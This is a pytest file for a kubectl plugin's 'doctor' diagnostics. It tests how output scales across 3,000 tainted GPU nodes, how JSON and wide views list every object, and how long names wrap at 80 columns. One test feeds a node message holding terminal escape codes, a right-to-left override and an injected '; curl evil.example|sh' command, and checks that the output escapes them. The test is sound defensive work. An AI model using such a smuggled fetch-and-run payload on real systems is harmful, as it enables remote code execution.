"""What people read (issues 14 and 15): one cause hitting thousands of objects is one entry in the table and
every object in the machine formats; names are escaped; long names wrap whole at 80 columns."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests import builders as b

ROOT = Path(__file__).resolve().parents[2]


def kcache(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "kubectl_kcache", *args], capture_output=True, text=True, cwd=ROOT, env=env, timeout=300
    )


def write(tmp_path: Path, items: list[dict]) -> str:
    path = tmp_path / "cluster.json"
    path.write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": items}))
    return str(path)


@pytest.fixture(scope="module")
def tainted(tmp_path_factory) -> str:
    """3,000 GPU nodes of one group, every one with a taint the group does not tolerate."""
    nodes = [
        b.node(f"gpu-{i:04d}", {"pool": "gpu"}, taints=[b.taint("nvidia.com/gpu", "present")]) for i in range(3000)
    ]
    items = [
        b.config_map({"enabled": True}),
        b.group("gpu", {"pool": "gpu"}),
        *nodes,
        *(b.kcn(n["metadata"]["name"]) for n in nodes),
    ]
    return write(tmp_path_factory.mktemp("scale"), items)


def test_a_systematic_taint_on_3000_nodes_is_one_entry_in_the_table(tainted):
    piped = kcache(
        "doctor", "-f", tainted, "--only", "group-taints", env={k: v for k, v in os.environ.items() if k != "COLUMNS"}
    )
    assert (
        any(
            line.startswith(
                "error[group-taints/blocks-jobs]: taint nvidia.com/gpu=present:NoSchedule is not "
                "tolerated by preparation Jobs of gpu (3000 Nodes in group gpu: gpu-0000, gpu-0001, gpu-0002, "
                "… (+2997))"
            )
            for line in piped.stdout.splitlines()
        )
        or "\n    " in piped.stdout
    )
    proc = kcache("doctor", "-f", tainted, "--only", "group-taints", env={**os.environ, "COLUMNS": "120"})
    assert proc.returncode == 1, proc.stderr
    lines = proc.stdout.splitlines()
    assert len(lines) <= 40, proc.stdout
    assert any("3000 Nodes" in line for line in lines)
    text = " ".join(proc.stdout.split())
    assert (
        "error[group-taints/blocks-jobs]: taint nvidia.com/gpu=present:NoSchedule is not tolerated by preparation "
        "Jobs of gpu --> 3000 Nodes in group gpu: gpu-0000, gpu-0001, gpu-0002, … (+2997)"
    ) in text
    assert (
        "help: kubectl get nodes -l pool=gpu -o "
        "'custom-columns=NAME:.metadata.name,TAINTS:.spec.taints[*].key' # all 3000"
    ) in text


def test_every_object_is_in_json_and_wide(tainted):
    doc = json.loads(kcache("doctor", "-f", tainted, "--only", "group-taints", "-o", "json").stdout)
    nodes = {f["object"]["name"] for f in doc["findings"] if f["code"] == "blocks-jobs"}
    assert len(nodes) == 3000
    wide = kcache("doctor", "-f", tainted, "--only", "group-taints", "-o", "wide").stdout
    assert "gpu-2999" in wide and "3000 Nodes" not in wide


def test_names_from_a_file_are_escaped_and_quoted(tmp_path):
    evil = "gpu-1\x1b[31m\u202e; curl evil.example|sh #"
    node = b.node("gpu-1", {"pool": "gpu"})
    node["spec"]["unschedulable"] = True
    node["status"]["conditions"][0]["message"] = evil
    node["status"]["conditions"][0]["status"] = "False"
    items = [b.config_map({"enabled": True}), b.group("gpu", {"pool": "gpu"}), node, b.kcn("gpu-1")]
    proc = kcache("doctor", "-f", write(tmp_path, items), "--only", "nodes")
    assert proc.returncode in (0, 1), proc.stderr
    assert "\x1b" not in proc.stdout and "\u202e" not in proc.stdout
    assert "\\x1b[31m\\u202e; curl evil.example|sh #" in proc.stdout


def test_long_names_wrap_at_80_columns_without_a_cut(tmp_path):
    long_ns = "team-" + "x" * 50
    name = "llama-3-1-8b-instruct-kcc-7d9c6b5f48-5fc2f4e1d106aaa8a0970991"
    cache = b.kernel_cache(name, long_ns, "gone")
    items = [
        b.config_map({"enabled": True}),
        b.group("gpu", {"pool": "gpu"}),
        b.node("gpu-1", {"pool": "gpu"}),
        b.kcn("gpu-1"),
        cache,
    ]
    proc = kcache("doctor", "-f", write(tmp_path, items), "--only", "cache-status", env={"COLUMNS": "80"})
    assert proc.returncode == 1, proc.stderr
    lines = proc.stdout.splitlines()
    # wider: a next command, or one name longer than a line, alone on it (the terminal folds it; we never cut it)
    assert all(len(line) <= 80 for line in lines if not line.startswith("  help: ") and len(line.split()) > 1)
    words = proc.stdout.split()
    assert any(long_ns in w for w in words) and any(name in w for w in words), "names whole"
